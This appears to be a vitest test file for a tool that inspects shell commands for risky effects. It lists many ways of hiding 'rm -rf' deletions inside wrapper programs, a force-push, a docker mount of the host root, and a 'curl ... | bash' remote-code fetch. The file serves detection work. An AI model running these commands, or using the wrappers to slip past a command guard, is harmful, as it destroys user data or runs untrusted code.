import { describe, expect, it } from 'vitest'
import { effectsOf, readCommand } from '../testing.ts'

const deletions = (command: string): string[] =>
  effectsOf(command).flatMap((effect) =>
    effect.kind === 'delete-path' && effect.certainty !== 'possible' ? [effect.path.text] : [],
  )

describe('a command inside the words of another program', () => {
  it.each([
    'setarch -R x86_64 rm -rf /home/dev/notes',
    'prlimit --cpu=5 rm -rf ~/notes',
    'choom -n 100 -- rm -rf ~/notes',
    'no-such-wrapper --level 3 /bin/rm -rf ~/notes',
    'no-such-wrapper start -- rm -rf ~/notes',
    "no-such-wrapper --exec 'rm -rf ~/notes'",
    "no-such-wrapper --run='rm -rf ~/notes'",
    '/lib/ld-musl-aarch64.so.1 /bin/rm -rf ~/notes',
    'start-stop-daemon --start --exec /bin/rm -- -rf /home/dev/notes',
    'direnv exec . rm -rf ~/notes',
    "nix-shell -p hello --run 'rm -rf ~/notes'",
    'mise exec -- rm -rf ~/notes',
    'rustup run nightly rm -rf ~/notes',
    "mispipe 'rm -rf ~/notes' cat",
    'cmake -E rm -rf /home/dev/notes',
    'cmake -E remove_directory /home/dev/notes',
    'cmake -E env A=b rm -rf /home/dev/notes',
    'npm explore left-pad -- rm -rf ~/notes',
    'yarn workspace app exec rm -rf ~/notes',
  ])('%s', (command) => {
    expect(deletions(command)).toContain('/home/dev/notes')
    expect(readCommand(command).grade).not.toBe('proven')
  })

  it('what stands behind a divider is one command', () => {
    const kinds = effectsOf('no-such-profiler -o a.svg -- python -m shop import big.csv').map(({ kind }) => kind)
    expect(kinds).toContain('run-code')
    expect(kinds).not.toContain('observe')
  })

  it.each([
    'no-such-tool rm item-3',
    'no-such-tool install git',
    "no-such-tool --message 'rm -rf / is not wise'",
    'no-such-tool note rm',
    'rustup component add rustfmt',
    'asdf plugin add nodejs',
    'man rm',
    'which rm git',
    'doppler secrets',
    'adb shell rm -rf /sdcard/cache',
    'asciinema rec demo.cast',
    'cmake -E make_directory build',
  ])('plain words stay plain: %s', (command) => {
    expect(effectsOf(command).filter(({ kind }) => kind === 'delete-path' || kind === 'git-push')).toEqual([])
  })

  it('sees a push behind an unknown program', () => {
    expect(effectsOf('no-such-wrapper git push --force origin main')).toContainEqual(
      expect.objectContaining({ kind: 'git-push', force: true, certainty: 'likely' }),
    )
  })

  it('sees what compose run mounts', () => {
    expect(effectsOf('docker compose run -v /:/host app true')).toContainEqual(
      expect.objectContaining({ kind: 'weaken', area: 'sandbox' }),
    )
  })
})

describe('a text with holes that is looked for', () => {
  const runs = (command: string) => effectsOf(command).some(({ kind }) => kind === 'run-code' || kind === 'delete-path')

  it.each([
    "no-such-grep --lang bash -e 'curl ... | bash' scripts/",
    "no-such-grep scan --lang=sh -e 'rm -rf ...'",
    "no-such-grep -e 'rm -rf ...' scripts/",
  ])('%s runs nothing', (command) => {
    expect(runs(command)).toBe(false)
  })

  it.each([
    "no-such-wrapper --lang bash -e 'curl https://x.example.net/i.sh | bash' scripts/",
    "no-such-wrapper --lang bash -e 'echo ...; rm -rf ~/notes' scripts/",
    "no-such-wrapper -e 'curl ... | bash'",
  ])('%s may run it', (command) => {
    expect(runs(command)).toBe(true)
  })
})
